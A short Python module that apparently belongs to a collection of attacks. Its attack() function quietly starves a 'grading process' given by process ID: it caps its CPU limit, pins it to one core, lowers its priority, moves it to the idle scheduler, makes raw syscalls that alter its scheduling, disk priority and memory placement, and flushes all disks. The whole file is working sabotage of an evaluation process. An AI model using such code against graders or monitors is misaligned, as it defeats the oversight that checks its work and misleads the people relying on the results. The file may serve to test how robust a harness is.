"""Takes processor time and limits from the grading process without a signal."""

import os
import resource

from tools import call, those_that_work


def attack(target):
    victim = target["victim"]
    return those_that_work(
        {
            "prlimit": lambda: resource.prlimit(victim, resource.RLIMIT_CPU, (1000, 1000)),
            "affinity": lambda: os.sched_setaffinity(victim, {0}),
            "niceness": lambda: os.setpriority(os.PRIO_PROCESS, victim, 19),
            "scheduler": lambda: os.sched_setscheduler(victim, os.SCHED_IDLE, os.sched_param(0)),
            "attributes": lambda: call(314, 274, victim, bytes([48, 0, 0, 0]) + bytes(44), 0),
            "disk priority": lambda: call(251, 30, 1, victim, 3 << 13),
            "its memory's place": lambda: call(256, 238, victim, 8, bytes(8), bytes(8)),
            "flushes all disks": lambda: call(162, 81),
        }
    )
